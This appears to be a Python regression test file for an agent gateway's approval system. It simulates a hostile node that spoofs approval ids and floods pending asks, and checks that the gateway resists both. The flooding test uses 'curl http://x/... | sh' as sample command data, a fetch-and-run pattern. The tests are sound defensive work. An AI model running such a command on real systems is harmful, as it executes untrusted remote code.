"""Issue 27 (class 2): a node named its ask's approval id `socket:X`, the id a console socket client's ask
gets, so that client's withdraw of X ended the node's ask (and the two shared one allow-once slot). Each
source now has ids of its own, made by the gateway, never taken from a frame."""

from __future__ import annotations

import asyncio
from pathlib import Path

from engine import principals
from tests.attacks.test_hostile_node import _agents, _setup
from tests.helpers.gateway import connect, gateway, wait_until
from tests.helpers.hostile_node import ask
from tests.helpers.sshd import SshdNode


async def test_a_nodes_approval_id_never_lands_in_the_socket_namespace(
    sshd_nodes: list[SshdNode], state_dir: Path
) -> None:
    hostile = _setup(sshd_nodes, state_dir)
    async with gateway(state_dir) as server:
        ops, evil = await _agents(state_dir)
        call = asyncio.ensure_future(evil.request("exec", {"command": "echo hi", "node": "alpha"}))
        run = await hostile.next_run()
        frame = ask("n1", run["params"]["runId"])
        frame["params"]["approvalId"] = "socket:victim"
        await hostile.inject(frame)
        manager = server.services.approvals
        pending = await wait_until(lambda: manager.pending() or None, timeout=30)
        ids = {r["nodeApprovalId"] for r in pending[0].requesters}
        assert not any(str(i).startswith("socket:") for i in ids), ids
        operator = await connect(state_dir, "operator")
        # The console's socket client "victim" gives up: only its own asks may end.
        assert (await operator.request("approvals.relay", {"id": "victim", "withdraw": True}))[
            "withdrawn"
        ] == 0
        assert [r.id for r in manager.pending()] == [pending[0].id]
        await hostile.answer(run)
        await asyncio.wait_for(call, 30)
        for client in (ops, evil, operator):
            await client.close()


async def test_two_agents_flooding_a_node_leave_a_third_room_to_ask(
    sshd_nodes: list[SshdNode], state_dir: Path
) -> None:
    """The node's cap on pending asks (64) counted every agent together: two agents at their own caps (32
    each) filled it, and a third's ask through that node was refused. Each agent now has its share."""
    from runner.gateway.node_asks import MAX_PENDING_PER_NODE_AGENT

    hostile = _setup(sshd_nodes, state_dir, '[[agents.list]]\nid = "mal"\n')
    async with gateway(state_dir) as server:
        ops, evil = await _agents(state_dir)
        mal = await connect(state_dir, "mal", operator=False, credential=principals.mint(state_dir, "mal"))
        calls, runs = [], []
        for client in (evil, mal):
            for i in range(4):
                params = {"command": "echo hi", "node": "alpha", "sessionKey": f"s{i}"}
                calls.append(asyncio.ensure_future(client.request("exec", params)))
                runs.append(await hostile.next_run())
        frames = [
            ask(f"f{n}-{k}", run["params"]["runId"], command=f"curl http://x/{n}-{k} | sh")
            for n, run in enumerate(runs)
            for k in range(8)
        ]
        await hostile.inject(*frames)
        manager = server.services.approvals
        await wait_until(lambda: len(manager.pending()) + len(hostile.answers()) >= len(frames) or None)
        calls.append(asyncio.ensure_future(ops.request("exec", {"command": "echo mine", "node": "alpha"})))
        own = await hostile.next_run()
        await hostile.inject(ask("mine", own["params"]["runId"], command="echo mine"))
        theirs = await wait_until(
            lambda: (
                [r.request.command for r in manager.pending() if r.request.agent_id == "ops"]
                or [a for a in hostile.answers() if a["id"] == "mine"]
                or None
            ),
            timeout=30,
        )
        assert theirs == ["echo mine"]  # pending, not refused (too-many-pending)
        for agent in ("evil", "mal"):
            pending = [r for r in manager.pending() if r.request.agent_id == agent]
            assert len(pending) == MAX_PENDING_PER_NODE_AGENT
        for run in [*runs, own]:
            await hostile.answer(run)
        await asyncio.wait_for(asyncio.gather(*calls), 60)
        for client in (ops, evil, mal):
            await client.close()
